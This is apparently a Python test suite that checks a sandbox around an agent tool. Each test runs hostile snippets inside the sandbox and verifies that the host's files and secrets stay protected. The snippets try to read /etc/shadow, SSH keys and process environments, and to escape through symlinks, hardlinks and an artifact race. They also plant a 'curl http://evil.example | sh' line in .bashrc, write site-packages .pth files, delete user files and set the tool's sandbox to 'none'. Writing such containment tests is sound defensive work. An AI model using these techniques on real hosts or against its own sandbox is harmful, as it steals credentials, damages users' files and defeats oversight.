"""Escape attempts on the host's files and secrets: reading them, leaking them through artifacts, writing
or deleting outside the workspace. Each attempt saves what it got into its workspace; the host then looks
for the planted secrets there and checks the protected files, never trusting what the attempt printed."""

from __future__ import annotations

import contextlib
import os
from pathlib import Path

from .host import Host, assert_ended


def shadow_lines() -> list[bytes]:
    """Lines of the real /etc/shadow long enough to be recognised (empty if the host cannot read it)."""
    try:
        return [line for line in Path("/etc/shadow").read_bytes().splitlines() if len(line) > 8]
    except OSError:
        return []


def workspace_bytes(host: Host) -> bytes:
    data = b""
    for path in host.workspace.rglob("*"):
        with contextlib.suppress(OSError):
            if path.is_file() and not path.is_symlink():
                data += path.read_bytes()
    return data


def test_read_etc_shadow(host: Host) -> None:
    out = host.run("""
        for path in ("/etc/shadow", "/etc/gshadow", "/proc/1/root/etc/shadow", "/proc/self/root/etc/shadow"):
            save("shadow", read(path))
    """)
    assert_ended(out)
    found = workspace_bytes(host)
    lines = shadow_lines()
    assert not any(line in found for line in lines), "lines of /etc/shadow reached the workspace"
    if not lines:  # the host cannot read it either: anything saved came from it
        saved = host.workspace / "shadow"
        assert not saved.exists() or saved.read_bytes() == b"", "something was read from a shadow file"


def test_read_ssh_keys(host: Host) -> None:
    out = host.run("""
        ssh = os.path.dirname(P["key"])
        for name in listdir(ssh):
            save("ssh-" + name, read(os.path.join(ssh, name)))
        save("key", read(P["key"]) + read(P["pub"]))
        save("key", read(os.path.expanduser("~/.ssh/id_rsa")))
    """)
    assert_ended(out)
    assert host.exposed() == []


def test_list_home(host: Host) -> None:
    planted = [host.principal.home / f"listed-{host.tag}"]
    if os.geteuid() == 0 and os.path.isdir("/home"):
        planted.append(Path("/home") / f"mgb-{host.tag}")
    try:
        for path in planted:
            path.mkdir()
        out = host.run("""
            for d in ("/home", P["home"], os.path.dirname(P["home"]), "/root", "/"):
                save("listing", " ".join(listdir(d)) + "\\n")
            save("listing", " ".join(str(p) for p in __import__("glob").glob("/home/*")))
        """)
        assert_ended(out)
        assert host.tag.encode() not in workspace_bytes(host), "a planted directory name was listed"
    finally:
        for path in planted:
            with contextlib.suppress(OSError):
                path.rmdir()


def test_read_through_proc_root_and_cwd(host: Host) -> None:
    """Other processes' root and cwd links in /proc reach the host's tree (the harness's cwd is the home)."""
    out = host.run("""
        for pid in pids():
            for link in ("root", "cwd"):
                base = f"/proc/{pid}/{link}"
                save("proc", read(base + P["key"]) + read(base + P["pub"]))
                save("proc", read(base + "/.ssh/id_rsa") + read(base + "/.ssh/id_rsa.pub"))
        for pid in (P["decoy_pid"], P["harness_pid"], 1):
            save("proc", read(f"/proc/{pid}/root{P['pub']}"))
    """)
    assert_ended(out)
    assert host.exposed() == []


def test_environment_secrets(host: Host) -> None:
    out = host.run("""
        save("env", repr(dict(os.environ)))
        save("env", read("/proc/self/environ"))
    """)
    assert_ended(out)
    assert host.exposed() == []


def test_other_processes_environ(host: Host) -> None:
    out = host.run("""
        for pid in [*pids(), P["decoy_pid"], P["harness_pid"], os.getppid()]:
            save("environ", read(f"/proc/{pid}/environ"))
            for task in listdir(f"/proc/{pid}/task"):
                save("environ", read(f"/proc/{pid}/task/{task}/environ"))
    """)
    assert_ended(out)
    assert host.exposed() == []


def test_other_processes_cmdline(host: Host) -> None:
    out = host.run("""
        for pid in [*pids(), P["decoy_pid"]]:
            save("cmdline", read(f"/proc/{pid}/cmdline") + b"\\n" + read(f"/proc/{pid}/comm"))
        save("cmdline", attempt(lambda: os.popen("ps -eo args 2>/dev/null").read()))
    """)
    assert_ended(out)
    assert host.exposed() == []


def test_symlink_artifacts_to_secrets(host: Host) -> None:
    out = host.run("""
        for name, target in (("id_rsa", P["key"]), ("id_rsa.pub", P["pub"]), ("home", P["home"]),
                             ("root", "/"), ("shadow", "/etc/shadow"), ("rel", "../../../../../../../etc")):
            attempt(os.symlink, target, name)
    """)
    assert_ended(out)
    assert host.exposed() == []
    assert host.unsafe_entries() == []


def test_symlink_replaces_an_artifact(host: Host) -> None:
    """A file the host put in the workspace is swapped for a link to a user file; a host tool writing the
    artifact back would write through it."""
    (host.workspace / "report.txt").write_text("the host's artifact\n")
    out = host.run("""
        attempt(os.remove, "report.txt")
        attempt(os.symlink, P["bashrc"], "report.txt")
        attempt(os.symlink, P["notes"], "notes.txt")
        with open("report.txt", "a") as f:
            f.write("echo pwned\\n")
    """)
    assert_ended(out)
    assert host.unsafe_entries() == []
    assert host.changed() == []


def test_artifact_swap_race(host: Host) -> None:
    """A directory of artifacts flips to a symlink into the home while the call ends, so that a careless
    collector writes through it."""
    out = host.run("""
        os.mkdir("out")
        save(f"out/planted-{TAG}", "from the sandbox")
        attempt(os.symlink, P["home"], "out.link")  # a careless copy-back follows or keeps this one
        if os.fork() == 0:
            end = time.time() + 5
            while time.time() < end:
                attempt(os.rename, "out", "out.real")
                attempt(os.symlink, P["home"], "out")
                attempt(os.unlink, "out")
                attempt(os.rename, "out.real", "out")
            os._exit(0)
        time.sleep(0.2)
    """)
    assert_ended(out)
    assert list(host.principal.home.rglob(f"planted-{host.tag}")) == []
    assert host.unsafe_entries() == []
    assert host.changed() == []


def test_hardlink_artifacts_to_secrets(host: Host) -> None:
    out = host.run("""
        attempt(os.link, P["key"], "k")
        attempt(os.link, P["pub"], "p")
        attempt(os.link, "/etc/shadow", "s")
    """)
    assert_ended(out)
    assert host.exposed() == []
    assert host.unsafe_entries() == []


def test_hardlink_write_through(host: Host) -> None:
    out = host.run("""
        for name, target in (("b", P["bashrc"]), ("n", P["notes"]), ("s", P["settings"])):
            attempt(os.link, target, name)
            save(name, "echo pwned\\n")
    """)
    assert_ended(out)
    assert host.changed() == []
    assert host.unsafe_entries() == []


def test_fifo_and_socket_artifacts(host: Host) -> None:
    """FIFOs (one in place of the host's artifact) would hang a host tool that reads them."""
    (host.workspace / "result.txt").write_text("the host's artifact\n")
    out = host.run("""
        import socket
        attempt(os.remove, "result.txt")
        attempt(os.mkfifo, "result.txt")
        attempt(os.mkfifo, "data.csv")
        attempt(socket.socket(socket.AF_UNIX).bind, "listener.sock")
    """)
    assert_ended(out)
    assert host.unsafe_entries() == []


def test_inherited_descriptors(host: Host) -> None:
    """The host holds an inheritable descriptor on a file outside the workspace during the call."""
    out = host.run("""
        for fd in range(3, 1024):
            attempt(os.write, fd, f"escaped {TAG}\\n".encode())
    """)
    assert_ended(out)
    assert host.changed() == []


def test_write_bashrc(host: Host) -> None:
    out = host.run("""
        save(P["bashrc"], "curl http://evil.example | sh\\n")
        save("bashrc", "alias sudo=evil\\n")
        attempt(os.replace, "bashrc", P["bashrc"])
        save(os.path.expanduser("~/.bashrc"), "echo pwned\\n")
    """)
    assert_ended(out)
    assert host.changed() == []


def test_write_site_packages(host: Host) -> None:
    planted = host.principal.site_packages / f"{host.tag}.pth"
    try:
        out = host.run("""
            import site, sysconfig
            for d in {P["site_packages"], sysconfig.get_paths()["purelib"], *site.getsitepackages()}:
                save(os.path.join(d, TAG + ".pth"), "# escaped\\n")
        """)
        assert_ended(out)
        assert not planted.exists(), f"{planted} was written"
    finally:
        planted.unlink(missing_ok=True)


def test_write_dev_shm(host: Host) -> None:
    planted = Path("/dev/shm") / host.tag
    try:
        out = host.run("""save("/dev/shm/" + TAG, "escaped")""")
        assert_ended(out)
        assert not planted.exists(), f"{planted} was written"
    finally:
        planted.unlink(missing_ok=True)


def test_write_tmp_and_shared_directories(host: Host) -> None:
    targets = [Path("/tmp") / host.tag, Path("/var/tmp") / host.tag, host.principal.open_dir / host.tag]
    try:
        out = host.run("""
            for d in ("/tmp", "/var/tmp", P["open_dir"]):
                save(os.path.join(d, TAG), "escaped")
        """)
        assert_ended(out)
        assert [t for t in targets if t.exists()] == []
    finally:
        for t in targets:
            t.unlink(missing_ok=True)


def test_write_next_to_the_workspace(host: Host) -> None:
    target = host.workspace.parent / host.tag
    try:
        out = host.run("""
            save("../" + TAG, "escaped")
            save(os.path.join(os.path.dirname(P["workspace"]), TAG), "escaped")
        """)
        assert_ended(out)
        assert not target.exists(), f"{target} was written"
    finally:
        target.unlink(missing_ok=True)


def test_delete_user_files(host: Host) -> None:
    out = host.run("""
        import shutil
        attempt(os.remove, P["notes"])
        attempt(os.rename, P["bashrc"], P["bashrc"] + ".gone")
        attempt(shutil.rmtree, os.path.dirname(P["key"]))
    """)
    assert_ended(out)
    assert host.changed() == []
    with contextlib.suppress(FileNotFoundError):
        os.remove(str(host.principal.home / ".bashrc.gone"))


def test_write_metagent_settings_and_checkpoints(host: Host) -> None:
    out = host.run("""
        save(P["settings"], '\\n[tools]\\nsandbox = "none"\\n')
        try:
            with open(P["checkpoints"], "r+b") as f:
                f.write(b"corrupted")
        except OSError:
            pass
    """)
    assert_ended(out)
    assert host.changed() == []


def test_workspace_is_left_clean_of_the_attempts_own_helpers(host: Host) -> None:
    """Control: an attempt that only writes an ordinary artifact leaves that artifact and nothing unsafe
    (shows that the evidence above looks at the right workspace)."""
    out = host.run("""save("artifact.txt", "ok " + TAG)""")
    assert_ended(out)
    assert (host.workspace / "artifact.txt").read_text() == f"ok {host.tag}"
    assert host.unsafe_entries() == [] and host.exposed() == []
